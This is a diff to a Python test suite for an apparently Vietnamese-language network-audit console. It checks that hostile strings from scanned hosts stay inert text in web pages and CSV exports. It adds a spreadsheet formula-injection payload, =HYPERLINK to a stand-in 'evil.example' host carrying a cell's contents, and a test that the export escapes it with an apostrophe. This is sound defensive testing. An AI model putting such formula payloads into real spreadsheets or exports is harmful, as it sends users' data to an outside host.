@@ -46,6 +46,7 @@ VENDOR = f"Hãng {PAYLOADS['svg']}"
 OS = f"Windows 7 {PAYLOADS['link']}"
 BANNER = f"Apache {PAYLOADS['style']}"
 TITLE = f"Trang quản trị {PAYLOADS['template']} {PAYLOADS['script']}"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'  # a banner a spreadsheet would run
 UNIT = SyntheticUnit("xa-doc", NAME, Level.COMMUNE, "tn-tinh", Ed25519PrivateKey.generate(), 3, 0.2)
 
 
@@ -67,7 +68,14 @@ def hostile_bundle() -> bytes:
         target=Target(ip=first.ip, port=80, proto="tcp"),
         evidence=f"tiêu đề trang: {TITLE}",
     )
-    findings = (*payload.findings, title)
+    formula = Finding(
+        check_id="net.http_admin_cleartext",
+        status=Status.FAIL,
+        severity=Severity.MEDIUM,
+        target=Target(ip=first.ip, port=8080, proto="tcp"),
+        evidence=FORMULA,
+    )
+    findings = (*payload.findings, title, formula)
     hostile = payload.model_copy(
         update={"hosts": (host, *payload.hosts[1:]), "findings": findings,
                 "score": score_findings(list(findings))}
@@ -142,3 +150,16 @@ def test_hostile_strings_are_text_on_every_console_page(console: int, tmp_path: 
                 e for e in browser.get_log("browser") if "Content Security" in e["message"]
             ]
             assert violations == [], (name, violations)
+
+
+def test_the_csv_export_keeps_a_formula_from_the_lan_as_text(console: int) -> None:
+    from console_client import Client
+
+    me = Client(console)
+    assert me.log_in("tinh") == 303
+    status, headers, body = me.request("GET", "/findings?status=fail&format=csv")
+    assert status == 200 and headers["content-type"].startswith("text/csv")
+    lines = body.lstrip("\ufeff").splitlines()
+    assert lines[0] == "unit_id,check_id,status,severity,ip,port,proto,evidence,reason,waiver"
+    (line,) = [x for x in lines if "HYPERLINK" in x]
+    assert "\"'=HYPERLINK(" in line  # the apostrophe: shown, never evaluated
